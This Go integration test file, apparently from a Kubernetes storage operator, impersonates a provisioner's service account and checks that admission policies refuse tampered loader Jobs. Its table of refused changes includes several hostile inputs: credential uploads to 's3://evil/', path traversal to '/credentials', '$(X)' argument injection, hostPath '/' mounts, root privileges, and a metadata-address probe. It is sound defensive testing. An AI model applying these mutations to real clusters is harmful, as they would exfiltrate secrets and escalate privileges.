//go:build cluster

package dataset_test

import (
	"maps"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/flexlvm/flexlvm/test/await"
)

// stolen returns a client with the rights of the provisioner's token, as a thief has.
func (k *kubelets) stolen(t *testing.T) client.Client {
	t.Helper()
	config := rest.CopyConfig(k.config)
	config.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:" + system + ":" + account}
	stolen, err := client.New(config, client.Options{Scheme: k.client.Scheme()})
	require.NoError(t, err)
	return stolen
}

// rich is a volume whose loader uses every option.
const rich = `{id: a, replicas: 1, sourceType: S3, accessMode: ReadWriteOnce, capacity: 5Gi, labels: {k: v},
    options: {awsCredentialsSecretName: s, caConfigMap: ca, serviceAccountName: loader, sourceURL: "s3://b/p/", timeoutForDataDownload: 1h, stream: "true"},
    nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [{matchExpressions: [{key: sim, operator: Exists}]}]}},
    tolerations: [{key: gpu, operator: Exists, value: "", effect: NoSchedule}]}`

// loader returns the Job that the controller created, as it could be created again.
func (s *space) loader(name string) *batchv1.Job {
	s.t.Helper()
	var job *batchv1.Job
	await.Until(s.t, longest, func() string {
		job = &batchv1.Job{}
		err := s.client.Get(s.t.Context(), s.key(name), job)
		return await.Missing(err == nil, "no Job: %v", err)
	})
	m := job.ObjectMeta
	job.ObjectMeta = metav1.ObjectMeta{Namespace: m.Namespace, Name: m.Name, Labels: m.Labels, Annotations: m.Annotations, OwnerReferences: m.OwnerReferences}
	job.Status, job.Spec.Selector, job.Spec.Template.Labels = batchv1.JobStatus{}, nil, maps.Clone(m.Labels)
	return job
}

// testLoaderPolicies checks that the provisioner's token can create the Jobs that the controller
// creates, and no others.
func (k *kubelets) testLoaderPolicies(t *testing.T) {
	stolen, ctx, s := k.stolen(t), t.Context(), k.namespace(t, "loaders")
	require.NoError(t, k.client.Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: s.name, Name: "loader"}}))
	s.play(s.name, func(*corev1.Pod) *corev1.PodStatus { return running(corev1.ConditionFalse) })
	s.make("v", rich)
	made := s.loader("v-a-0")
	try := func(change func(*batchv1.Job)) error {
		job := made.DeepCopy()
		change(job)
		return stolen.Create(ctx, job, client.DryRunAll)
	}
	// The Job exists already, which the server reports only after admission.
	err := try(func(*batchv1.Job) {})
	require.True(t, apierrors.IsAlreadyExists(err), "%v", err)
	require.NoError(t, try(upload))
	require.NoError(t, try(func(j *batchv1.Job) {
		ofReplica(j, "v-a", "9")
		podOf(j).SecurityContext.FSGroup, podOf(j).SecurityContext.FSGroupChangePolicy = nil, nil
	}), "as one whose volume consumers write to")
	require.NoError(t, try(func(j *batchv1.Job) { ofReplica(j, "v-a", "9") }))
	for _, url := range []string{"s3://b/$$(X)", "https://h/l", "http://h/l", "hf://org/name", "oci://r/m", "gs://bkt/", "azblob://acc/con/"} {
		require.NoError(t, try(func(j *batchv1.Job) { ofReplica(j, "v-a", "9"); args("--", url, "/data")(j) }), url)
	}

	k.testCopiedClaims(t, s, stolen)
	k.testPeerJobs(t, s, stolen)
	for message, changes := range jobsOfThieves {
		for name, change := range changes {
			// If several policies refuse a Job, the error may come from any of them.
			if err := try(change); err == nil || !strings.Contains(err.Error(), "'provisioner-loaders.flexlvm.io'") {
				require.ErrorContains(t, err, message, name)
			}
		}
	}
	// Existing claims that were created for other purposes.
	for _, number := range []string{"7", "8"} {
		name := "v-a-" + number
		claim := &corev1.PersistentVolumeClaim{
			ObjectMeta: metav1.ObjectMeta{Namespace: s.name, Name: name},
			Spec:       corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce}, Resources: s.claimSize("1Gi"), StorageClassName: ptr("none")},
		}
		if number == "8" {
			claim.Labels = map[string]string{"flexlvm.io/volumemanager": made.Labels["flexlvm.io/volumemanager"], "flexlvm.io/dataset": "0123456789abcdef"}
		}
		require.NoError(t, k.client.Create(ctx, claim))
		await.Until(t, longest, func() string {
			err := try(func(j *batchv1.Job) { ofReplica(j, "v-a", number) })
			return await.Missing(err != nil, "the claim %s may be mounted", name)
		})
		err := try(func(j *batchv1.Job) { ofReplica(j, "v-a", number) })
		require.ErrorContains(t, err, "may only create Jobs that mount claims of their own dataset")
	}
	// In a namespace without VolumeManagers nothing can be loaded.
	other := k.namespace(t, "loaders-none")
	require.ErrorContains(t, try(func(j *batchv1.Job) { j.Namespace = other.name }), "no params found")
	for _, namespace := range []string{metav1.NamespaceSystem, system} {
		require.ErrorContains(t, try(func(j *batchv1.Job) { j.Namespace = namespace }), "ValidatingAdmissionPolicy", namespace)
	}

	others := made.DeepCopy()
	others.Name, others.OwnerReferences, others.Labels = "others", nil, nil
	require.NoError(t, k.client.Create(ctx, others))
	require.ErrorContains(t, stolen.Delete(ctx, others), "may only create and delete Jobs that a VolumeManager owns")
	k.kubectl(t, "delete", "job", "others", "-n", s.name)
	k.kubectl(t, "delete", "pvc", "v-a-7", "v-a-8", "-n", s.name)
	s.remove(s.get("v"))
	s.nothingLeft()
}

// testCopiedClaims checks that only the claim that a volume names is mounted, and only read-only.
func (k *kubelets) testCopiedClaims(t *testing.T, s *space, stolen client.Client) {
	t.Helper()
	for _, name := range []string{"theirs", "share"} {
		require.NoError(t, k.client.Create(t.Context(), &corev1.PersistentVolumeClaim{
			ObjectMeta: metav1.ObjectMeta{Namespace: s.name, Name: name},
			Spec:       corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteMany}, Resources: s.claimSize("1Gi"), StorageClassName: ptr("none")},
		}))
	}
	s.make("c", `{id: a, replicas: 1, sourceType: PVC, accessMode: ReadWriteOnce, capacity: 5Gi, labels: {k: v}, options: {claimName: share, path: sets}}`)
	made := s.loader("c-a-0")
	require.Equal(t, "share", podOf(made).Volumes[1].PersistentVolumeClaim.ClaimName)
	for name, c := range map[string]struct {
		change  func(*batchv1.Job)
		message string
	}{
		"as it is":      {func(*batchv1.Job) {}, ""},
		"another claim": {func(j *batchv1.Job) { podOf(j).Volumes[1].PersistentVolumeClaim.ClaimName = "theirs" }, "that their volume names in VolumeManager c"},
		"to be written": {func(j *batchv1.Job) { podOf(j).Volumes[1].PersistentVolumeClaim.ReadOnly = false }, "'provisioner-loader"},
		"in another's place": {func(j *batchv1.Job) {
			mounts := containerOf(j).VolumeMounts
			mounts[0].MountPath, mounts[1].MountPath = mounts[1].MountPath, mounts[0].MountPath
		}, "mount the one claim of their replica"},
		"under another name": {func(j *batchv1.Job) { podOf(j).Volumes[1].Name, containerOf(j).VolumeMounts[1].Name = "x", "x" }, "'provisioner-"},
		"twice": {func(j *batchv1.Job) {
			podOf(j).Volumes = append(podOf(j).Volumes, corev1.Volume{Name: "y", VolumeSource: podOf(j).Volumes[1].VolumeSource})
		}, "'provisioner-"},
		"way out":    {args("--", "file:///source/../credentials/", "/data"), "load or upload a dataset: /fetch"},
		"other file": {args("--", "file:///credentials/", "/data"), "load or upload a dataset: /fetch"},
	} {
		job := made.DeepCopy()
		ofReplica(job, "c-a", "9")
		c.change(job)
		err := stolen.Create(t.Context(), job, client.DryRunAll)
		if c.message == "" {
			require.NoError(t, err, name)
			continue
		}
		require.Error(t, err, name)
		// If several policies refuse it, the error may come from any of them.
		require.Regexp(t, regexp.QuoteMeta(c.message)+"|'provisioner-(jobs|loaders|loader-claims)[.]flexlvm[.]io'", err.Error(), name)
	}
	s.remove(s.get("c"))
	k.kubectl(t, "delete", "pvc", "theirs", "share", "-n", s.name, "--wait=false")
}

// upload changes a loader's Job to an upload.
func upload(j *batchv1.Job) {
	j.Name, j.Labels["flexlvm.io/role"] = "v-a-put", "put"
	pod := &j.Spec.Template.Spec
	pod.Affinity = nil
	pod.Containers[0].Args = []string{"put", "--progress=json", "--", "/data", "s3://b/out/"}
}

// ofReplica changes a loader's Job to another replica's, whose claim need not exist.
func ofReplica(j *batchv1.Job, base, number string) {
	j.Name, j.Labels["flexlvm.io/replica"] = base+"-"+number, number
	podOf(j).Volumes[0].PersistentVolumeClaim.ClaimName = j.Name
}

func podOf(j *batchv1.Job) *corev1.PodSpec         { return &j.Spec.Template.Spec }
func containerOf(j *batchv1.Job) *corev1.Container { return &j.Spec.Template.Spec.Containers[0] }

func args(words ...string) func(*batchv1.Job) {
	return func(j *batchv1.Job) { containerOf(j).Args = words }
}

// jobsOfThieves are changes to Jobs that no controller makes, by a part of the refusal.
var jobsOfThieves = map[string]map[string]func(*batchv1.Job){
	"that a VolumeManager owns": {
		"no owner": func(j *batchv1.Job) { j.OwnerReferences = nil },
		"no label": func(j *batchv1.Job) { ofReplica(j, "v-a", "9"); delete(j.Labels, "flexlvm.io/volumemanager") },
	},
	"that are owned by one VolumeManager alone": {
		"another owner": func(j *batchv1.Job) {
			j.OwnerReferences = append(j.OwnerReferences, metav1.OwnerReference{APIVersion: "v1", Kind: "ServiceAccount", Name: "default", UID: "uid"})
		},
		"unknown version": func(j *batchv1.Job) { j.OwnerReferences[0].APIVersion = "flexlvm.io/v9" },
		"a node": func(j *batchv1.Job) { // Kubernetes would take the node's UID as proof that the owner exists
			j.OwnerReferences[0].Name = "x" + strings.Repeat("-", 36) + "/../../../../../../../api/v1/nodes/n1"
			j.OwnerReferences[0].UID, j.Labels["flexlvm.io/volumemanager"] = "other", "other"
			ofReplica(j, "x-01234567", "9")
		},
		"another label": func(j *batchv1.Job) { ofReplica(j, "v-a", "9"); j.Labels["flexlvm.io/volumemanager"] = "other" },
		"no dataset":    func(j *batchv1.Job) { delete(j.Labels, "flexlvm.io/dataset") },
		"finalizer":     func(j *batchv1.Job) { j.Finalizers = []string{"example.org/stay"} },
	},
	"of VolumeManagers that exist": {
		"another UID": func(j *batchv1.Job) {
			ofReplica(j, "v-a", "9")
			j.OwnerReferences[0].UID, j.Labels["flexlvm.io/volumemanager"] = "other", "other"
		},
		"another name": func(j *batchv1.Job) { ofReplica(j, "w-a", "9"); j.OwnerReferences[0].Name = "w" },
	},
	"that their volume names in VolumeManager v": {
		"volume":          func(j *batchv1.Job) { ofReplica(j, "v-b", "9"); j.Annotations["flexlvm.io/volume-id"] = "b" },
		"service account": func(j *batchv1.Job) { podOf(j).ServiceAccountName, podOf(j).DeprecatedServiceAccount = "default", "" },
		"secret":          func(j *batchv1.Job) { podOf(j).Volumes[1].Secret.SecretName = "theirs" },
		"authority":       func(j *batchv1.Job) { podOf(j).Volumes[2].ConfigMap.Name = "theirs" },
		"toleration": func(j *batchv1.Job) {
			podOf(j).Tolerations = []corev1.Toleration{{Operator: corev1.TolerationOpExists}}
		},
	},
	"that spec.loader of VolumeManager v names": {
		"priority class": func(j *batchv1.Job) { podOf(j).PriorityClassName = "theirs" },
		"pull secret":    func(j *batchv1.Job) { podOf(j).ImagePullSecrets = []corev1.LocalObjectReference{{Name: "theirs"}} },
		"environment":    func(j *batchv1.Job) { containerOf(j).Env = []corev1.EnvVar{{Name: "A", Value: "b"}} },
		"limit": func(j *batchv1.Job) {
			containerOf(j).Resources.Limits = corev1.ResourceList{"cpu": resource.MustParse("1")}
		},
	},
	"the priority classes of the cluster itself": {
		"priority class of the cluster": func(j *batchv1.Job) { podOf(j).PriorityClassName = "system-node-critical" },
	},
	"their loader does not need": {
		"environment of a Secret": func(j *batchv1.Job) {
			containerOf(j).Env = []corev1.EnvVar{{Name: "A", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "s3"}, Key: "k"}}}}
		},
		"priority":      func(j *batchv1.Job) { podOf(j).Priority = ptr(int32(2000001000)) },
		"runtime class": func(j *batchv1.Job) { podOf(j).RuntimeClassName = ptr("bare") },
		"resource claims": func(j *batchv1.Job) {
			podOf(j).ResourceClaims = []corev1.PodResourceClaim{{Name: "gpu", ResourceClaimName: ptr("gpu")}}
		},
		"host network":  func(j *batchv1.Job) { podOf(j).HostNetwork = true },
		"host PIDs":     func(j *batchv1.Job) { podOf(j).HostPID = true },
		"host users":    func(j *batchv1.Job) { podOf(j).HostUsers = ptr(true) },
		"node":          func(j *batchv1.Job) { podOf(j).NodeName = nodes[0] },
		"node selector": func(j *batchv1.Job) { podOf(j).NodeSelector = map[string]string{"a": "b"} },
		"host alias": func(j *batchv1.Job) {
			podOf(j).HostAliases = []corev1.HostAlias{{IP: "10.0.0.1", Hostnames: []string{"s3"}}}
		},
		"init container": func(j *batchv1.Job) { podOf(j).InitContainers = []corev1.Container{{Name: "i", Image: "i"}} },
		"hook": func(j *batchv1.Job) {
			containerOf(j).Lifecycle = &corev1.Lifecycle{PreStop: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"sh"}}}}
		},
		"probe": func(j *batchv1.Job) {
			containerOf(j).StartupProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh"}}}}
		},
		"device": func(j *batchv1.Job) {
			containerOf(j).Resources.Limits = corev1.ResourceList{"example.org/device": resource.MustParse("1")}
		},
		"annotation":   func(j *batchv1.Job) { j.Spec.Template.Annotations["k8s.v1.cni.cncf.io/networks"] = "host" },
		"finalizer":    func(j *batchv1.Job) { j.Spec.Template.Finalizers = []string{"example.org/stay"} },
		"manager":      func(j *batchv1.Job) { j.Spec.ManagedBy = ptr("example.org/manager") },
		"time to live": func(j *batchv1.Job) { j.Spec.TTLSecondsAfterFinished = ptr(int32(1)) },
	},
	"load or upload a dataset: /fetch": {
		"image":   func(j *batchv1.Job) { containerOf(j).Image = "example.org/evil" },
		"command": func(j *batchv1.Job) { containerOf(j).Command = []string{"/bin/sh"} },
		"two containers": func(j *batchv1.Job) {
			podOf(j).Containers = append(podOf(j).Containers, corev1.Container{Name: "d", Image: "i"})
		},
		"secret upload":  args("put", "--", "/credentials", "s3://evil/"),
		"secret as data": args("--", "/credentials", "/data"),
		"way out":        args("put", "--", "/data/../credentials", "s3://evil/"),
		"mixed up":       args("put", "/credentials", "--", "/data", "s3://evil/"),
		"another verb":   args("help"),
		// Neither the peers' token nor any other mounted file may be sent to a source.
		"peers' token":    args("--credentials-dir=/peers", "--", "https://evil/list", "/data"),
		"order by secret": args("--order=list", "--order-file=/credentials/token", "--", "s3://b/p", "/data"),
		"result":          args("--result=/data/x", "--", "s3://b/p", "/data"),
		// The kubelet would expand these to values of the environment.
		"variable":       args("put", "--", "/data/$(X)", "s3://evil/"),
		"flag":           args("--$(X)", "--", "s3://b/p", "/data"),
		"after a dollar": args("--", "s3://b/$$$(X)", "/data"),
		"another scheme": args("--", "httpx://h/l", "/data"),
	},
	"mount the one claim of their replica": {
		"path": func(j *batchv1.Job) {
			podOf(j).Volumes[1].VolumeSource = corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}
		},
		"token": func(j *batchv1.Job) {
			podOf(j).Volumes[1].VolumeSource = corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{Sources: []corev1.VolumeProjection{
				{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token"}},
			}}}
		},
		"another claim":  func(j *batchv1.Job) { podOf(j).Volumes[0].PersistentVolumeClaim.ClaimName = "data-web-0" },
		"another number": func(j *batchv1.Job) { podOf(j).Volumes[0].PersistentVolumeClaim.ClaimName = "v-a-1" },
		"another name":   func(j *batchv1.Job) { j.Name = "j" },
		"another volume": func(j *batchv1.Job) { j.Annotations["flexlvm.io/volume-id"] = "b" },
		"no claim": func(j *batchv1.Job) {
			podOf(j).Volumes[0].PersistentVolumeClaim = nil
			podOf(j).Volumes[0].ConfigMap = &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "ca"}}
		},
		"another Secret": func(j *batchv1.Job) {
			podOf(j).Volumes = append(podOf(j).Volumes, corev1.Volume{Name: "x", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "s"}}})
		},
		"Secret as data": func(j *batchv1.Job) {
			mounts := containerOf(j).VolumeMounts
			mounts[0].MountPath, mounts[1].MountPath = mounts[1].MountPath, mounts[0].MountPath
		},
		"Secret in data": func(j *batchv1.Job) { containerOf(j).VolumeMounts[1].MountPath = "/data/s" },
		"mount that leaks": func(j *batchv1.Job) {
			containerOf(j).VolumeMounts[0].MountPropagation = ptr(corev1.MountPropagationHostToContainer)
		},
	},
	"run as nobody": {
		"root":           func(j *batchv1.Job) { podOf(j).SecurityContext = nil },
		"user":           func(j *batchv1.Job) { podOf(j).SecurityContext.RunAsUser = nil },
		"group 0":        func(j *batchv1.Job) { podOf(j).SecurityContext.RunAsGroup = ptr(int64(0)) },
		"no group":       func(j *batchv1.Job) { podOf(j).SecurityContext.RunAsGroup = nil },
		"group of files": func(j *batchv1.Job) { podOf(j).SecurityContext.FSGroup = ptr(int64(0)) },
		"further groups": func(j *batchv1.Job) { podOf(j).SecurityContext.SupplementalGroups = []int64{0} },
		"sysctl": func(j *batchv1.Job) {
			podOf(j).SecurityContext.Sysctls = []corev1.Sysctl{{Name: "kernel.msgmax", Value: "1"}}
		},
		"seccomp":          func(j *batchv1.Job) { podOf(j).SecurityContext.SeccompProfile = nil },
		"container's user": func(j *batchv1.Job) { containerOf(j).SecurityContext.RunAsUser = ptr(int64(0)) },
		"container's seccomp": func(j *batchv1.Job) {
			containerOf(j).SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
		},
		"capability": func(j *batchv1.Job) {
			containerOf(j).SecurityContext.Capabilities.Add = []corev1.Capability{"SYS_MODULE"}
		},
		"capabilities": func(j *batchv1.Job) { containerOf(j).SecurityContext.Capabilities = nil },
		"file system":  func(j *batchv1.Job) { containerOf(j).SecurityContext.ReadOnlyRootFilesystem = nil },
		"token":        func(j *batchv1.Job) { podOf(j).AutomountServiceAccountToken = nil },
		"port":         func(j *batchv1.Job) { containerOf(j).Ports[0].HostPort = containerOf(j).Ports[0].ContainerPort },
		"probe":        func(j *batchv1.Job) { containerOf(j).ReadinessProbe.HTTPGet.Host = "169.254.169.254" },
		"command": func(j *batchv1.Job) {
			containerOf(j).ReadinessProbe.ProbeHandler = corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh"}}}
		},
	},
	"which the default scheduler places": {
		"many":      func(j *batchv1.Job) { j.Spec.Parallelism, j.Spec.Completions = ptr(int32(9)), ptr(int32(9)) },
		"scheduler": func(j *batchv1.Job) { podOf(j).SchedulerName = "mine" },
		"long end":  func(j *batchv1.Job) { podOf(j).TerminationGracePeriodSeconds = ptr(int64(time.Hour / time.Second)) },
		"resolver":  func(j *batchv1.Job) { podOf(j).DNSPolicy = corev1.DNSDefault },
		"with whom": func(j *batchv1.Job) { podOf(j).Affinity.PodAffinity = &corev1.PodAffinity{} },
		"alone": func(j *batchv1.Job) {
			podOf(j).Affinity.PodAntiAffinity.RequiredDuringSchedulingIgnoredDuringExecution[0].NamespaceSelector = &metav1.LabelSelector{}
		},
	},
}
